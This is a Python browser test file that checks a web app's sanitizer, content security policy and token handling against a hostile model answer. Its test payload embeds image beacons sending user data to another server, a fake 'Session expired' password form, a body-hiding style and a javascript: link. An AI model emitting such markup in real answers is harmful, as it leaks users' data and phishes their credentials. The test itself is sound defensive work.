"""The page as an attacker would use it (issue #14, items 13-15): answers that try to send the user's data
elsewhere or dress up as the page, links that point the page at another server, and the page opened from
disk. Debian's Chromium under Playwright, against the served app."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tests.browser import (  # noqa: F401  (fixtures, used by name)
    Recorder,
    browser_fixture,
    expect_clean_console,
    new_page,
    open_page,
    page_fixture,
    recorder_fixture,
    start_run,
    status_is,
)
from tests.conftest import REPO, LiveServer, make_settings, script, wait_until
from tests.fake_openai import FakeOpenAI

pytestmark = pytest.mark.browser

PIXEL = (
    "data:image/png;base64,"
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


def hostile_answer(elsewhere: str) -> str:
    return f"""# Report

![chart]({elsewhere}/leak?d=the-users-data)
<img src="{elsewhere}/img?d=more" srcset="{elsewhere}/srcset 2x" alt="x">
<img src="//{elsewhere.split("://")[1]}/protocol-relative">
![pixel]({PIXEL})
<style>body {{ display: none }}</style>
<div style="position:fixed;inset:0;z-index:9;background:#000" class="backdrop jump">Session expired</div>
<form action="{elsewhere}/form"><input name="password"><button>Log in again</button></form>
<iframe src="{elsewhere}/frame"></iframe>
<svg><image href="{elsewhere}/svg"/></svg>
<video poster="{elsewhere}/poster"></video>
<p id="status">Done, nothing to see.</p>

[docs](https://example.org/) [mail](mailto:someone@example.org) [run](javascript:alert(1)) [api](/api/runs)
<a href="{elsewhere}/x" target="_self">same tab</a>

- [x] done
"""


ANSWER_FACTS = """() => {
    const answer = document.getElementById('answer');
    const all = [...answer.querySelectorAll('*')];
    const rect = document.getElementById('answer-panel').getBoundingClientRect();
    return {
        tags: [...new Set(all.map((e) => e.tagName.toLowerCase()))].sort(),
        styled: all.filter((e) => e.hasAttribute('style')).length,
        ids: all.filter((e) => e.id || e.hasAttribute('name')).length,
        classes: [...new Set(all.flatMap((e) => [...e.classList]))].sort(),
        images: all.filter((e) => e.tagName === 'IMG')
            .map((e) => [e.getAttribute('src'), e.getAttribute('srcset')]),
        links: all.filter((e) => e.tagName === 'A')
            .map((e) => [e.textContent, e.getAttribute('href'), e.target, e.rel]),
        contain: getComputedStyle(answer).contain,
        overflow: getComputedStyle(answer).overflow,
        inside: all.every((e) => { const r = e.getBoundingClientRect();
            return r.width === 0 || (r.left >= rect.left && r.top >= rect.top && r.right <= rect.right + 1); }),
        bodyShown: getComputedStyle(document.body).display !== 'none',
        status: document.getElementById('status').textContent,
        text: answer.textContent,
    };
}"""


def expect_contained(page: Any, elsewhere: str) -> None:
    facts = page.evaluate(ANSWER_FACTS)
    assert set(facts["tags"]) <= {"h1", "p", "img", "div", "a", "ul", "li", "strong", "em"}, facts["tags"]
    assert facts["styled"] == 0 and facts["ids"] == 0
    assert facts["classes"] == ["blocked-image"]
    assert facts["images"] == [[None, None], [None, None], [None, None], [PIXEL, None]]
    assert facts["links"] == [
        ["docs", "https://example.org/", "_blank", "noopener noreferrer"],
        ["mail", "mailto:someone@example.org", "_blank", "noopener noreferrer"],
        ["run", None, "", ""],
        ["api", None, "", ""],
        ["same tab", f"{elsewhere}/x", "_blank", "noopener noreferrer"],
    ]
    assert "paint" in facts["contain"] or facts["contain"] in ("content", "strict")
    assert facts["overflow"] != "visible" and facts["inside"]
    assert facts["bodyShown"] and not facts["status"].startswith("Done, nothing")
    assert "Session expired" in facts["text"] and "☑ done" in facts["text"]


def test_answers_load_nothing_from_elsewhere_and_stay_in_their_panel(
    page: Any, fake: FakeOpenAI, recorder: Recorder, tmp_path: Path
) -> None:
    """Live and replayed. Mutants: no afterSanitizeAttributes hook (remote image sources kept, links open in
    place); no ALLOWED_TAGS (style, form, iframe and svg kept); `class` allowed as is."""
    answer = hostile_answer(recorder.url)
    with LiveServer(make_settings(fake, rlm_history_db=str(tmp_path / "h.sqlite3"))) as server:
        open_page(page, server)
        start_run(page, script({"code": [f"answer.update(content={answer!r}, ready=True)"]}))
        page.wait_for_selector("#answer-badge.ready")
        expect_contained(page, recorder.url)
        page.locator("#history li button").first.click()
        status_is(page, "Replayed run", starts=True)
        expect_contained(page, recorder.url)
    assert recorder.requests == []
    # DOMPurify parses the raw answer in an inert document that shares the page's policy, so the policy
    # reports the <style> and style="" it saw there; the rendered answer has none (checked above).
    expect_clean_console(page, "Applying inline style violates")


def test_every_page_response_carries_the_security_policy(page: Any, live: LiveServer, recorder: Recorder) -> None:
    """The policy is what stops a remote image even if the sanitizer missed one. Mutant: no PageHeadersMiddleware."""
    response = page.goto(live.url + "/")
    policy = response.headers["content-security-policy"]
    assert "img-src 'self' data: blob:" in policy and "connect-src 'self'" in policy
    page.wait_for_function("() => document.getElementById('model-chip').textContent.includes('root-model')")
    blocked = page.evaluate(
        """(url) => new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true });
        const image = document.createElement('img');
        image.addEventListener('error', () => setTimeout(() => resolve('failed to load'), 100));
        image.src = url;
        document.body.append(image);
    })""",
        recorder.url + "/pixel",
    )
    assert blocked == "img-src" and recorder.requests == []
    expect_clean_console(page, "Content Security Policy")


def test_a_token_goes_only_to_the_server_it_was_saved_for(browser: Any, fake: FakeOpenAI, recorder: Recorder) -> None:
    """Without the page's policy in the way (as when the page is served elsewhere), following `?api=` to another
    server sends it no token. Mutant: apiFetch sending the token of any origin (`Object.values(...)[0]`)."""
    page = new_page(browser, bypass_csp=True)
    try:
        with LiveServer(make_settings(fake, rlm_api_token="s3cret")) as server:
            page.goto(server.url + "/")
            page.fill("#api-token", "s3cret")
            page.press("#api-token", "Tab")
            page.wait_for_function("() => document.getElementById('model-chip').textContent.includes('root-model')")
            asked = []
            page.once("dialog", lambda dialog: (asked.append(dialog.message), dialog.accept()))
            page.goto(f"{server.url}/?api={recorder.url}")
            assert wait_until(lambda: any(r.path == "/api/config" for r in recorder.requests), timeout=10)
            assert recorder.url in asked[0]
            assert page.input_value("#api-token") == ""
            start_run(page, "a question", "private data")
            assert wait_until(lambda: any(r.method == "POST" for r in recorder.requests), timeout=10)
            assert not recorder.sent_authorization()
            page.goto(server.url + "/")  # back home, the token is still there for its own server
            page.wait_for_function("() => document.getElementById('model-chip').textContent.includes('root-model')")
            assert page.input_value("#api-token") == "s3cret"
    finally:
        page.context.close()


def test_a_link_to_another_server_is_followed_only_if_the_user_agrees(
    page: Any, live: LiveServer, recorder: Recorder
) -> None:
    """Declined: the page stays on its own server. Accepted: its policy still lets it connect only there, and it
    says so. Mutant: resolveServer not asking (ask() ignored) lets the declined link through."""
    page.once("dialog", lambda dialog: dialog.dismiss())
    open_page(page, live, f"?api={recorder.url}")
    status_is(page, f"The page uses its own server, not {recorder.url}.")
    page.once("dialog", lambda dialog: dialog.accept())
    page.goto(f"{live.url}/?api={recorder.url}")
    page.wait_for_function("() => document.getElementById('banner').textContent.includes('may only connect')")
    assert f"Open {recorder.url}/ to use that server" in page.inner_text("#banner")
    assert recorder.requests == []
    expect_clean_console(page, "Content Security Policy", "Failed to fetch")


def test_the_page_opened_from_disk_says_how_to_open_it(page: Any) -> None:
    """Mutant: index.html without file-notice.js leaves the notice hidden and Run enabled."""
    page.goto((REPO / "frontend" / "index.html").as_uri())
    notice = page.locator("#file-notice")
    notice.wait_for()
    text = notice.inner_text()
    assert "http://127.0.0.1:8000/" in text and "backend/main.py" in text
    assert notice.locator("a").get_attribute("href") == "http://127.0.0.1:8000/"
    assert page.locator("#run-button").is_disabled()  # Run cannot reload the page and wipe the prompt
    assert "open the page from its server" in page.inner_text("#status")
